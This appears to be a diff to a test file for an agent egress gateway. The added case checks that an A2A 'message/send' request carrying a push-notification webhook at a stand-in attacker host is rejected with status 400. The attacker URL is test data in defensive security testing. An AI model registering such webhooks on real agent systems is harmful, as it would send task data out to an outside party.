@@ -195,6 +195,12 @@ describe("egress to MCP servers and A2A agents, authorised per message", () => {
       body: JSON.stringify({ jsonrpc: "2.0", id: 3, method: "tasks/pushNotificationConfig/set", params: { taskId: task.id, pushNotificationConfig: { url: "https://attacker.example/hook" } } }),
     });
     assert.deepEqual(await answer.json(), { jsonrpc: "2.0", id: 3, error: { code: -32601, message: "Method not found: tasks/pushNotificationConfig/set" } });
+    const hooked = await asRuntime(`${gateway.url}/egress/billing-agent/a2a`, {
+      method: "POST",
+      headers: { "content-type": "application/json" },
+      body: JSON.stringify({ jsonrpc: "2.0", id: 4, method: "message/send", params: { message: { kind: "message", role: "user", messageId: randomUUID(), parts: [{ kind: "text", text: "hi" }] }, configuration: { pushNotificationConfig: { url: "https://attacker.example/hook" } } } }),
+    });
+    assert.equal(hooked.status, 400);
     assert.equal(billing.texts.length, 1, "nothing more reached the agent");
   });
 });
